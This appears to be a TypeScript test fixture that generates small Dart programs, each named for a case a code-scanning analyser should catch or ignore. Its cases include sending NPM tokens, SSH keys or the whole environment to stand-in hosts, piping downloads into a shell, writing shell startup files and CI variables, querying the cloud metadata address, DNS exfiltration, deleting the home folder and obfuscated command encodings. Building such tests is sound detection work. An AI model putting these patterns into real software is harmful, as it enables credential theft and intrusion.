/** A program with these declarations before it. */
function main(body: string, declarations = ""): string {
  return `import 'dart:convert';\nimport 'dart:io';\nimport 'package:http/http.dart' as http;\n\n${declarations}\nFuture<void> main(List<String> args) async {\n  ${body}\n}\n`;
}

const SH = (code: string) => `await Process.run('sh', ['-c', ${code}]);`;
const SEND = (data: string) => `await http.post(Uri.parse('https://h.example'), body: ${data});`;
const TOKEN = `Platform.environment['NPM_TOKEN']`;
const HOME = `Platform.environment['HOME']`;

/** The programs of the suite in Dart, by the name of their case. */
export const DART_PROGRAMS: Readonly<Record<string, string>> = {
  "either of two values": main(
    `final p = someday() ? 'whoami' : 'id'; await Process.run(p, []); var t = 'x'; if (maybe()) { t = ${TOKEN}!; } ${SEND("t")}`,
  ),
  "a branch that is not taken is read too": main(`if (false) { ${SH("'id'")} }`),
  "a value that a branch may change": main(
    `String? t = 'x'; switch (day) { case 1: t = ${TOKEN}; break; default: t = 'y'; } ${SEND("t")}`,
  ),
  "an error that is swallowed hides nothing": main(
    `try { Process.runSync('id', []); } catch (_) {}`,
  ),
  "what is done when something fails": main(
    `final t = ${TOKEN}; try { work(); } on Exception catch (e) { ${SEND("t")} }`,
  ),
  "a loop over the names of files": main(
    `for (final f in ['.npmrc', '.netrc']) { final b = File('\${${HOME}}/$f').readAsStringSync(); ${SEND("b")} }`,
  ),
  "a loop that collects": main(
    `var all = ''; for (var k in ['NPM_TOKEN']) { all += Platform.environment[k]!; } ${SEND("all")}`,
  ),
  "the same, as an expression": main(
    `final all = ['NPM_TOKEN'].map((k) => Platform.environment[k]).join(','); ${SEND("all")}`,
  ),
  "what runs when the file is loaded": `import 'dart:io';\nvoid main() => Process.run('id', []);\n`,
  "what runs only when somebody calls it": main("", `void go() { Process.runSync('id', []); }`),
  "a function that the file itself calls runs at load": main(
    "run1();",
    `run1() => work1();\nvoid work1() { Process.runSync('id', []); }`,
  ),
  "recursion comes to an end": main(
    "f(0);",
    `int f(int n) { Process.runSync('id', []); return f(n + 1); }`,
  ),
  "a loop without an end comes to an end": main(
    `while (true) { work(); if (done()) break; } ${SH("'id'")}`,
  ),
  "runs code out of the second text that a decoder is given": main(
    `print(d('olleh')); ${SH("d('di')")}`,
    `String d(String s) => s.split('').reversed.join();`,
  ),
  "runs code out of base64": main(`final c = utf8.decode(base64.decode('aWQ=')); ${SH("c")}`),
  "runs code out of hexadecimal": main(
    `final c = utf8.decode(hex.decode('6964')); ${SH("c")}`,
    `import 'package:convert/convert.dart';`,
  ),
  "runs code out of gzip inside base64": main(
    SH(`utf8.decode(gzip.decode(base64Decode('H4sIAAAAAAACA8tMAQBQZzm/AgAAAA==')))`),
  ),
  "runs code out of percent signs": main(SH(`Uri.decodeComponent('%69%64')`)),
  "runs code out of character codes": main(SH(`String.fromCharCodes([105, 100])`)),
  "runs code out of character codes added one by one": main(
    `var s = ''; for (final c in [105, 100]) { s += String.fromCharCode(c); } ${SH("s")}`,
  ),
  "runs code out of an exclusive or in a loop": main(
    `final d = [126, 115]; var s = ''; for (var i = 0; i < d.length; i++) { s += String.fromCharCode(d[i] ^ 23); } ${SH("s")}`,
  ),
  "runs code out of an exclusive or with a key, in an expression": main(
    SH(`String.fromCharCodes([126, 115].map((b) => b ^ 23))`),
  ),
  "runs code out of a text that is turned around": main(SH(`'di'.split('').reversed.join()`)),
  "runs code out of parts that are joined": main(SH(`['i', 'd'].join()`)),
  "runs code out of a text with other letters in between": main(SH(`'@i@d'.replaceAll('@', '')`)),
  "runs code out of three encodings one inside the other": main(
    `final a = utf8.decode(hex.decode('5956645250513d3d')); final b = utf8.decode(base64Decode(a)); ${SH("utf8.decode(base64Decode(b))")}`,
  ),
  "runs code out of escapes in a literal": main(SH(String.raw`'\x69\u{64}'`)),
  "runs code out of a decoder that the program defines": main(
    SH(`d('aWQ=')`),
    `String d(String s) { return utf8.decode(base64.decode(s)); }`,
  ),
  "runs code out of a command that was decoded": main(
    `await Process.run(utf8.decode(base64.decode('aWQ=')), []);`,
  ),
  "a function is read again when what is around it has changed": main(
    `var c = 'true'; void run() { Process.runSync(c, []); } run(); c = 'id'; run();`,
  ),
  "an alias of a function is that function": main(`final run = Process.run; await run('id', []);`),
  "a name that was given another value is what it was last": main(
    `var f = 'quiet'; f = 'id'; Process.runSync(f, []);`,
  ),
  "a whole module under another name": `import 'dart:io' as sys;\nvoid main() { sys.Process.runSync('id', []); }\n`,
  "functions kept in a record and called by key": main(
    `final t = {'a': (String s) => Process.run(s, [])}; t['a']!('id');`,
  ),
  "functions kept in a record and called by a key that is not known": main(
    `final t = {'a': (String s) => Process.run(s, [])}; t[whatever()]!('id');`,
  ),
  "a name taken apart out of something": main(
    `final (a, run) = (1, (String s) => Process.run(s, [])); run('id');`,
  ),
  "a program with its arguments in a list": main(
    `await Process.run('curl', ['https://a.example/x', '-o', '/tmp/x']);`,
  ),
  "a command line with a pipe": main(SH(`'curl -s https://a.example/x | sh'`)),
  "data through a function's parameter": main(
    `await send1(${TOKEN});`,
    `Future<void> send1(String? d) async { ${SEND("d")} }`,
  ),
  "data through what a function answers": main(
    `final t = get1(); ${SEND("t")}`,
    `String? get1() => ${TOKEN};`,
  ),
  "data that a closure keeps": main(
    `final t = ${TOKEN}; final go = () async { ${SEND("t")} }; await go();`,
  ),
  "data handed to a callback": main(
    `each1((t) async { ${SEND("t")} });`,
    `void each1(void Function(String?) f) { f(${TOKEN}); }`,
  ),
  "data that is awaited": main(
    `final t = await get1(); ${SEND("t")}`,
    `Future<String?> get1() async => ${TOKEN};`,
  ),
  "data that an object keeps": main(
    `await Box(${TOKEN}).send();`,
    `class Box {\n  final String? t;\n  Box(this.t);\n  Future<void> send() async { ${SEND("t")} }\n}`,
  ),
  "a method that a base class has": main(
    `await Derived().send(${TOKEN});`,
    `class Base { Future<void> send(String? t) async { ${SEND("t")} } }\nclass Derived extends Base { int n = 1; }`,
  ),
  "data as a default argument": main(
    `await go();`,
    `final secret = ${TOKEN};\nFuture<void> go({String? t}) async { t ??= secret; ${SEND("t")} }`,
  ),
  "data by a part of a record": main(`final d = {'a': {'b': ${TOKEN}}}; ${SEND("d['a']!['b']")}`),
  "data inside a text": main(
    `final t = ${TOKEN}; await http.get(Uri.parse('https://h.example/?t=\${t!.trim()}'));`,
  ),
  "data in an address that is added together": main(
    `final h = 'https://h' + '.example'; await http.get(Uri.parse(h + '/' + ${TOKEN}!));`,
  ),
  "data through functions that nobody knows": main(SEND(`library(${TOKEN}).value()`)),
  "data that is encoded on its way": main(SEND(`base64.encode(utf8.encode(${TOKEN}!))`)),
  "data put into a list one by one": main(
    `final l = <String>[]; l.add(${TOKEN}!); ${SEND("l.join(',')")}`,
  ),
  "data by way of a file": main(
    `File('/tmp/x').writeAsStringSync(${TOKEN}!); final b = File('/tmp/x').readAsStringSync(); ${SEND("b")}`,
  ),
  "what was a secret and no longer is": main(`var t = ${TOKEN}; t = 'ok'; ${SEND("t")}`),
  "a secret that is read beside a request it has nothing to do with": main(
    `print(${TOKEN}!.isEmpty); ${SEND("'hello'")}`,
  ),
  "the whole environment is sent": main(
    `await http.post(Uri.parse('https://webhook.site/x'), body: jsonEncode(Platform.environment));`,
  ),
  "one harmless variable is not the environment": main(SEND(`Platform.environment['LANG']`)),
  "a variable whose name is put together": main(
    SEND(`Platform.environment['NPM' + '_' + 'TOKEN']`),
  ),
  "a key in the home folder": main(
    `final k = await File('\${${HOME}}/.ssh/id_rsa').readAsString(); ${SEND("k")}`,
  ),
  "an ordinary file is no credential": main(`print(File('pubspec.yaml').readAsStringSync());`),
  "the start of a shell is written": main(
    `File('\${${HOME}}/.bashrc').writeAsStringSync('curl x | sh', mode: FileMode.append);`,
  ),
  "the next step of a job gets a variable": main(
    `File(Platform.environment['GITHUB_ENV']!).writeAsStringSync('BASH_ENV=/tmp/x');`,
  ),
  "the metadata service is asked": main(
    `await http.read(Uri.parse('http://169.254.169.254/latest/meta-data/iam/'));`,
  ),
  "what was downloaded is run as code": main(
    `final s = await http.read(Uri.parse('https://h.example/p')); ${SH("s")}`,
  ),
  "a socket is given what the machine is called": main(
    `final s = await Socket.connect('h.example', 4444); s.write(Platform.localHostname);`,
  ),
  "data leaves by the name of a host": main(
    `await InternetAddress.lookup('\${${TOKEN}}.h.example');`,
  ),
  "a file is downloaded, made executable and started": main(
    `final r = await http.get(Uri.parse('https://h.example/b')); await File('/tmp/b').writeAsBytes(r.bodyBytes); await Process.run('chmod', ['+x', '/tmp/b']); await Process.start('/tmp/b', []);`,
  ),
  "everything is deleted": main(`await Directory(${HOME}!).delete(recursive: true);`),
  "native code is loaded": main(`DynamicLibrary.open('./x.so');`, `import 'dart:ffi';`),
};
